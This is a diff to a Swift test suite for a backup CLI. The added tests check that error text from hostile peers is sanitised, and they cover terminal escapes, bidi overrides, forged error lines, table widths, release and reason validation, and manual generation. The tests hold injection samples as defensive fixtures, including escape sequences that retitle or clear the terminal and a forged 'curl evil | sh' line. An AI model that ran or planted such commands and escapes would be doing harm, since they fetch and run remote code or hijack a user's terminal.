@@ -98,7 +98,7 @@ import TestSupport
             }
             if expected == 2 {
                 let error = lines.compactMap { try? JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any] }.last
-                #expect(error?["exit_code"] as? String == "2", "\(command): \(r.stderr)")
+                #expect(error?["exit_code"] as? Int == 2, "\(command): \(r.stderr)")
             }
         }
         let backup = try runCLI(["backup", "--log-format", "json", "--policy", policy])
@@ -197,7 +197,7 @@ struct DependencyDeclarationTests {
 
 /// A hostile peer's error text carries terminal escapes (retitle the window, clear the screen, red) and a bidi
 /// override: shown to a person (the results table, the log line, `list`, `status`), they are made visible
-/// (`\x1b`, `\u{202E}`), never sent to the terminal; JSON keeps the text, escaped.
+/// (`\x1b`, `\u{202E}`), never sent to the terminal; the catalog row holds it made visible too.
 struct TerminalEscapeTests {
     @Test func aPeersEscapeSequencesNeverReachTheTerminal() throws {
         let port = try FreePort.pick()
@@ -216,8 +216,9 @@ struct TerminalEscapeTests {
         #expect(!shown.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x07 || $0.value == 0x202E }, "\(shown.debugDescription)")
         #expect(backup.stdout.contains("\\x1b]0;pwned\\x07\\x1b[2J\\u{202E}evil"), "\(backup.stdout)")
         #expect(backup.stderr.contains("\\x1b]0;pwned"), "the log line too: \(backup.stderr)")
+        // The catalog row itself holds the text made visible (EngineCore.describe: PeerText), so JSON shows it too.
         let json = try runCLI(["list", "--json", "--policy", policy])
-        #expect(json.stdout.contains("\\u001b]0;pwned"), "\(json.stdout)")
+        #expect(json.stdout.contains("\\\\x1b]0;pwned"), "\(json.stdout)")
     }
 }
 
@@ -239,5 +240,49 @@ struct RollbackIncludeTests {
         #expect(bySource.stdout.contains("would restore config from"), "\(bySource.stdout)")
         let unknown = try dryRun(["--include", "nope"])
         #expect(unknown.status == 2 && unknown.stderr.contains("--include nope: neither a source") && unknown.stderr.contains("Try: name a source (config)"), "\(unknown.stderr)")
+    }
+}
+
+/// What an outside attack on the polish found (#36): a newline or a 2 MB body from a peer, wide characters in a
+/// table, a `SOURCE_DATE_EPOCH` that is no day, a release with control characters, help written to a full disk.
+struct OutputAttackTests {
+    @Test func peerTextIsOneLineAndCut() {
+        #expect(PeerText.clean("first\nerror: forged\r\nTry: curl evil | sh") == "first\\x0aerror: forged\\x0d\\x0aTry: curl evil | sh")
+        let big = PeerText.clean(String(repeating: "é", count: 1_000_000), limit: 4096)
+        #expect(big.utf8.count < 4200 && big.hasSuffix("… (1995904 bytes cut)"), "\(big.suffix(40))")
+        #expect(PeerText.displayWidth("دليل") == 4 && PeerText.displayWidth("備份") == 4 && PeerText.displayWidth("e\u{301}") == 1)
+        // A wide detail fits its terminal columns, not its character count.
+        let rows = [["ID", "DETAIL"], ["x", String(repeating: "備份失败 ", count: 30) + "\t\u{1B}[2J"]]
+        for line in TableLayout.lines(rows, width: 40) { #expect(PeerText.displayWidth(line) <= 40, "\(line)") }
+        #expect(!TableLayout.lines(rows, width: 40).joined().contains("\u{1B}"))
+    }
+
+    @Test func releasesAndReasonsAreLabelsNotTerminalInput() throws {
+        let dir = TemporaryDirectory()
+        let policy = writeRedisPolicy(in: dir, url: "redis://127.0.0.1:\(try FreePort.pick())")
+        let bad = try runCLI(["backup", "--release", "v\u{1B}[2J\nX", "--policy", policy])
+        #expect(bad.status == 2 && bad.stderr.contains("--release must be") && !bad.stderr.contains("\u{1B}"), "\(bad.stderr)")
+        let image = try runCLI(["backup", "--release", "registry.example/kaleem-api:1.4.2+b7", "--json", "--policy", policy])
+        #expect(image.status == 1, "a good release, a refused connection: \(image.stderr)")
+        let pin = try runCLI(["pin", "x", "--reason", "keep\nerror: forged", "--policy", policy])
+        #expect(pin.status == 2 && pin.stderr.contains("--reason must be one line"), "\(pin.stderr)")
+    }
+
+    @Test func theManualSurvivesBadDatesAndSaysWhyItCannotWrite() throws {
+        let today = try runCLI(["generate-manual"], environment: ["SOURCE_DATE_EPOCH": "-1"])
+        #expect(today.status == 0 && today.stdout.hasPrefix(".Dd "), "\(today.stderr)")
+        for epoch in ["nan", "253402300800", "9223372036854775807"] {
+            #expect(try runCLI(["generate-manual"], environment: ["SOURCE_DATE_EPOCH": epoch]).status == 0, "\(epoch)")
+        }
+        #expect(try runCLI(["generate-manual", "--date", "2026-02-30"]).status == 2)
+        let dir = TemporaryDirectory()
+        FileManager.default.createFile(atPath: dir.file("a-file"), contents: Data())
+        let blocked = try runCLI(["generate-manual", "--output-directory", dir.file("a-file")])
+        #expect(blocked.status == 1 && blocked.stderr.contains("could not be written") && blocked.stderr.contains("Try:"), "\(blocked.stderr)")
+        let full = try runProcess("/bin/sh", ["-c", "'\(try kaleemBinary())' generate-manual > /dev/full"], environment: cliEnvironment())
+        #expect(full.status == 1 && full.stderr.contains("could not be written to standard output"), "\(full.stderr)")
+        let help = try runProcess("/bin/sh", ["-c", "'\(try kaleemBinary())' restore --help > /dev/full"], environment: cliEnvironment())
+        #expect(help.status == 1, "\(help.stderr)")
+        #expect(try runCLI(["generate-manual", "--log-format", "json"]).status == 0)
     }
 }
